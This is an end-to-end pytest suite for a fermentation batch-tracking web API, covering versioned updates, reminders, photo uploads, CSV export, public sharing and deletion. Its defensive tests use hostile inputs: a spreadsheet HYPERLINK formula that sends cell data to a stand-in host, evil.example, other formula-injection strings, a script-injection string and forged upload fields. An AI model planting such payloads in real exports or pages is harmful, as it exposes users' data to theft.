"""A batch of kefir from the grains to the last drop, as its maker and everybody else see it."""

import csv
import io
from urllib.parse import urljoin

import pytest
import requests

from tests.e2e.kitchen import IMAGE, PHOTO, Shelf, begin, photograph, upload
from tests.e2e.people import Json, People, Person, expect, problem
from tests.e2e.system import System
from tests.e2e.waiting import wait_for

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
TEN_MEGABYTES = 10 * 1024 * 1024


@pytest.fixture(scope="module")
def cook(people: People) -> Person:
    return people.signed_in("cook")


@pytest.fixture
def batch(cook: Person) -> str:
    return str(begin(cook)["id"])


def kinds(person: Person, batch: str) -> list[str]:
    return [event["kind"] for event in person.read(f"ferments/batches/{batch}/events")["items"]]


def test_a_batch_is_walked_through_both_stages(cook: Person) -> None:
    wanted = {"name": "Ginger and fig", "water_ml": 2000, "sugar_g": 120.5, "temperature_c": 24, "notes": "Secret"}
    once = {"Idempotency-Key": "walked-once"}
    created = cook.post("ferments/batches", wanted | {"fruits": ["fig", "lemon"]}, once)
    batch = expect(created, 201)
    again = cook.post("ferments/batches", wanted | {"fruits": ["fig", "lemon"]}, once)

    assert (again.status_code, again.json()) == (201, batch)
    assert problem(cook.post("ferments/batches", {"name": "Other"}, once), 422) == "idempotency-key-reused"
    assert [one["id"] for one in cook.read("ferments/batches")["items"]].count(batch["id"]) == 1
    path = f"ferments/batches/{batch['id']}"
    assert urljoin(created.url, created.headers["Location"]) == f"{cook.url}/{path}"

    read = cook.get(path)
    assert expect(read, 200) == batch
    assert batch | wanted == batch
    assert (batch["stage"], batch["status"], batch["version"]) == (1, "active", 1)
    tag = read.headers["ETag"]
    assert cook.get(path, {"If-None-Match": tag}).status_code == 304

    moved = cook.patch(path, {"temperature_c": 26.5, "sugar_g": None}, {"If-Match": tag})
    assert expect(moved, 200)["version"] == 2
    assert (moved.json()["temperature_c"], moved.json()["sugar_g"]) == (26.5, None)
    assert problem(cook.patch(path, {"name": "Lost"}, {"If-Match": tag}), 412) == "precondition-failed"
    assert problem(cook.delete(path, {"If-Match": tag}), 412) == "precondition-failed"
    assert problem(cook.patch(path, {"status": "in_fridge"}), 409) == "conflict"

    bottled = expect(cook.post(f"{path}/stage", {"stage": 2, "bottle_count": 4, "target_hours": 30}), 200)
    assert (bottled["stage"], bottled["bottle_count"], bottled["stage2"]["target_hours"]) == (2, 4, 30)
    assert problem(cook.post(f"{path}/stage", {"stage": 2}), 409) == "conflict"
    noted = (
        {"kind": "measurement", "ph": 3.4, "gravity": 1.012},
        {"kind": "taste", "rating": 4, "text": "Sour"},
        {"kind": "feed", "sugar_g": 10},
        {"kind": "note", "text": "Began long ago", "at": "2026-01-01T08:00:00+01:00"},
    )
    events = [expect(cook.post(f"{path}/events", event), 201) for event in noted]
    assert events[-1]["at"] == "2026-01-01T07:00:00Z"
    assert expect(cook.patch(path, {"status": "in_fridge"}), 200)["status"] == "in_fridge"
    assert kinds(cook, batch["id"]) == ["note", "stage_change", "measurement", "taste", "feed", "status_change"]
    assert cook.delete(f"{path}/events/{events[1]['id']}").status_code == 204
    assert problem(cook.get(f"{path}/events/{events[1]['id']}"), 404) == "not-found"
    backwards = cook.read(f"{path}/events", order="desc", limit=2)
    assert [event["kind"] for event in backwards["items"]] == ["status_change", "feed"]
    assert backwards["cursor"]

    assert expect(cook.post(f"{path}/archive"), 200)["status"] == "archived"
    for refused in (cook.patch(path, {"name": "New"}), cook.post(f"{path}/events", noted[0])):
        assert problem(refused, 409) == "conflict"
    listed = [cook.read("ferments/batches", **more)["items"] for more in ({}, {"status": "archived"}, {"stage": "1"})]
    assert [batch["id"] in [one["id"] for one in items] for items in listed] == [False, True, False]


def test_two_who_change_at_once_do_not_lose_each_others_change(cook: Person, batch: str) -> None:
    path = f"ferments/batches/{batch}"
    tag = cook.get(path).headers["ETag"]

    answers = [cook.patch(path, {"water_ml": size}, {"If-Match": tag}) for size in (1000, 2000)]

    assert [answer.status_code for answer in answers] == [200, 412]
    assert cook.read(path)["water_ml"] == 1000


def test_reminders_are_suggested_and_confirmed(cook: Person) -> None:
    warm, cold = (begin(cook, temperature_c=degrees)["id"] for degrees in (32, 12))
    due = {
        batch: {one["key"]: one["due_at"] for one in cook.read(f"{reminders(batch)}/suggestions")["items"]}
        for batch in (warm, cold)
    }
    assert due[warm]["bottle"] < due[cold]["bottle"]

    confirmed = cook.post(f"{reminders(warm)}/confirm", {"reminders": [{"key": "taste"}, {"key": "bottle"}]})

    chosen = {one["key"]: one for one in expect(confirmed, 201)["items"]}
    assert {key: one["due_at"] for key, one in chosen.items()} == due[warm]
    first = cook.read("me/reminders", batch=warm, limit=1)
    second = cook.read("me/reminders", batch=warm, limit=1, cursor=first["cursor"])
    listed = [one["id"] for one in (*first["items"], *second["items"])]
    assert listed == [chosen["taste"]["id"], chosen["bottle"]["id"]]
    for due_at in ("2020-01-01T00:00:00Z", "2099-01-01T00:00:00Z"):
        late = {"reminders": [{"key": "taste", "due_at": due_at}]}
        assert problem(cook.post(f"{reminders(warm)}/confirm", late), 422) == "invalid-parameter"
    again = expect(cook.post(f"{reminders(warm)}/confirm", {"reminders": [{"key": "taste"}]}), 201)["items"]
    assert [one["id"] for one in again] == [chosen["taste"]["id"]]


def reminders(batch: str) -> str:
    return f"ferments/batches/{batch}/reminders"


def test_a_photo_is_uploaded_past_us_and_seen_by_its_maker(cook: Person, batch: str) -> None:
    photos = f"ferments/batches/{batch}/photos"
    form: Json = expect(cook.post(photos, {"content_type": IMAGE}), 201)
    key = form["upload"]["fields"]["key"]
    assert problem(cook.get(f"{photos}/{form['id']}"), 404) == "not-there-yet"

    assert problem(cook.post(photos, {"content_type": "text/html"}), 422) == "invalid-parameter"
    refused = [
        upload(form, PHOTO, Content_Type="text/html"),
        upload(form, PHOTO, key=key.replace(cook.id, "somebody")),
        upload(form, PHOTO, policy="e30="),
        upload(form, b"\0" * (TEN_MEGABYTES + 1)),
        upload(form, b""),
    ]
    assert [answer.status_code for answer in refused if answer.status_code < 400] == []
    assert upload(form, PHOTO).status_code in (200, 201, 204)

    link = cook.read(f"{photos}/{form['id']}")
    seen = requests.get(link["url"], timeout=30)
    assert (seen.status_code, seen.content, seen.headers["Content-Type"]) == (200, PHOTO, IMAGE)
    unsigned = link["url"].partition("?")[0]
    others = [unsigned, link["url"].replace(form["id"], "01ARZ3NDEKTSV4RRFFQ69G5FAV")]
    assert {requests.get(url, timeout=30).status_code for url in others} <= {401, 403, 404}
    assert [one["id"] for one in cook.read(photos)["items"]] == [form["id"]]
    noted = expect(cook.post(f"ferments/batches/{batch}/events", {"kind": "photo", "photo": form["id"]}), 201)
    assert noted["photo"] == form["id"]
    assert cook.delete(f"{photos}/{form['id']}").status_code == 204
    assert requests.get(link["url"], timeout=30).status_code in (403, 404)


def test_everything_can_be_taken_away_and_runs_no_formula(people: People) -> None:
    tom = people.signed_in("tom")
    batch = begin(tom, name=FORMULA, notes="Plain")["id"]
    expect(tom.post(f"ferments/batches/{batch}/events", {"kind": "note", "text": "\t@SUM(1)"}), 201)
    expect(tom.post("me/devices", {"token": "ExpoPushToken[tom]", "platform": "android", "name": "-2+3"}), 201)

    answer = tom.get("ferments/export.csv")

    assert answer.headers["Content-Type"].startswith("text/csv")
    assert answer.headers["Content-Disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [row["type"] for row in rows] == ["batch", "event", "device"]
    assert rows[0]["name"] == f"'{FORMULA}"
    assert rows[1]["text"].startswith("'")
    assert rows[2]["name"] == "'-2+3"
    assert "ExpoPushToken" not in answer.text


def test_what_is_too_large_for_an_answer_is_handed_over(people: People, system: System) -> None:
    """Lambda lets six megabytes through."""
    much = people.signed_in("much")
    shelf, user = Shelf(system.cloud), much.id
    shelf.write_much(user, begin(much)["id"], 5_000_000)

    answer = much.get("ferments/export.csv", {"Accept-Encoding": "identity"})

    assert answer.status_code == 303, answer.text[:500]
    assert answer.headers["Location"] == answer.json()["url"]
    taken = requests.get(answer.headers["Location"], timeout=30)
    assert (taken.status_code, len(taken.content) > 5_000_000) == (200, True)
    assert taken.headers["Content-Disposition"].startswith("attachment")
    assert len(shelf.objects_about(user)) == 1
    packed = much.get("ferments/export.csv", {"Accept-Encoding": "gzip"})
    assert (packed.status_code, packed.content) == (200, taken.content)


def test_what_is_shared_is_seen_without_a_token_for_as_long_as_it_is_shared(cook: Person, people: People) -> None:
    anybody = people.stranger("anybody")
    script = "<script>alert(1)</script>"
    batch = begin(cook, name=f"Fig {script}", notes="Nobody may read this", public_note="Try it")["id"]
    path, page = f"ferments/batches/{batch}", {"Accept": "text/html"}
    before = anybody.get(f"public/b/{batch}")

    expect(cook.patch(path, {"public": True}), 200)

    seen = expect(anybody.get(f"public/b/{batch}"), 200)
    shown = anybody.get(f"public/b/{batch}", page)
    code = anybody.get(f"public/b/{batch}/qr.svg")
    assert (seen["name"], seen["public_note"]) == (f"Fig {script}", "Try it")
    assert anybody.session.get(seen["url"], timeout=30).json() == seen
    assert shown.headers["Content-Type"].startswith("text/html")
    assert 'property="og:title"' in shown.text
    assert script not in shown.text
    assert "unsafe-inline" not in shown.headers["Content-Security-Policy"]
    assert (code.status_code, code.headers["Content-Type"]) == (200, "image/svg+xml")
    for told in (str(seen), shown.text, code.text):
        assert not [private for private in (cook.id, cook.email, "Nobody may read") if private in told]

    expect(cook.patch(path, {"public": False}), 200)
    unknown = anybody.get("public/b/01ARZ3NDEKTSV4RRFFQ69G5FAV")
    for gone in (before, anybody.get(f"public/b/{batch}")):
        assert (gone.status_code, gone.json() | {"correlation_id": 0}) == (404, unknown.json() | {"correlation_id": 0})
        assert gone.headers.keys() == unknown.headers.keys()
    assert anybody.get(f"public/b/{batch}", page).content == anybody.get("public/b/nothing", page).content
    assert problem(anybody.get(f"public/b/{batch}/qr.svg"), 404) == "not-found"


def test_a_deleted_batch_takes_everything_with_it(cook: Person, system: System) -> None:
    batch = begin(cook, public=True)["id"]
    path, shelf = f"ferments/batches/{batch}", Shelf(system.cloud)
    photograph(cook, batch)
    expect(cook.post(f"{path}/events", {"kind": "note", "text": "Spilt"}), 201)
    expect(cook.post(f"{path}/reminders/confirm", {"reminders": [{"key": "bottle"}]}), 201)
    assert len(shelf.objects_about(batch)) == 1

    assert cook.delete(path).status_code == 204

    for there in (path, f"{path}/events", f"{path}/photos", f"public/b/{batch}"):
        assert problem(cook.get(there), 404) == "not-found"
    system.end_delays()  # of requests that were being answered meanwhile there are none
    wait_for("the batch to be erased", lambda: not (owned(shelf, batch) or shelf.objects_about(batch)), seconds=60)
    assert cook.read("me/reminders", batch=batch)["items"] == []
    assert problem(cook.delete(path), 404) == "not-found"


def owned(shelf: Shelf, batch: str) -> list[str]:
    """The answers kept for a day tell of it, too."""
    return [key for key in shelf.items_about(batch) if not key.startswith("ANSWER#")]
